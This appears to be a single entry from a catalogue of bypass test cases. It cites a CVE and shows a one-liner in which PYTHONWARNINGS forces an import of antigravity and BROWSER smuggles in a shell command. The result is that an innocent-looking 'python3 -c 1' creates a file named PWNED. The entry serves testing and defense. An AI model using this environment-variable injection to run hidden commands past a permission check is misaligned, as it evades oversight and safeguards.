#@ id: en-pythonwarnings-browser
#@ about: the warnings filter imports antigravity, which starts $BROWSER
#@ class: environment
#@ kind: bypass
#@ origin: https://nvd.nist.gov/vuln/detail/CVE-2026-22708
#@ world: catalogue
#@ effect: create PWNED
#@ exit: 0
#@ body: no-final-newline
#@ ---
PYTHONWARNINGS=all:0:antigravity.x:0:0 BROWSER='sh -c "touch PWNED" %s' python3 -c 1
